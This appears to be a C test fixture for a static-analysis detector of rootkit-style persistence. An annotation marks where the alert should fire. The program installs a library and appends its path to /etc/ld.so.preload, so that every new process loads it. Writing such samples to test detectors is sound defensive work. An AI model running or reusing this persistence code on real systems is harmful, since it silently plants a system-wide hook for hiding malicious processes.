/*
 * behavior.persistence: a rootkit-style installer that registers its
 * process-hiding library in /etc/ld.so.preload, so every new process loads
 * it. The library is copied into place with install(1); the preload file
 * is written by a generic write_file(path, text, append) helper, as
 * installer code usually is, so the persistent path is the caller's
 * constant.
 */
#include <stdio.h>
#include <stdlib.h>

static int write_file(const char *path, const char *text, int append)
{
    FILE *f = fopen(path, append ? "a" : "w"); // $ Alert[behavior.persistence]
    if (!f)
        return -1;
    fputs(text, f);
    return fclose(f);
}

int main(void)
{
    if (system("install -m 0755 ./libsysstat.so /usr/local/lib/libsysstat.so.1") != 0)
        return 1;
    return write_file("/etc/ld.so.preload", "/usr/local/lib/libsysstat.so.1\n", 1) == 0 ? 0 : 1;
}
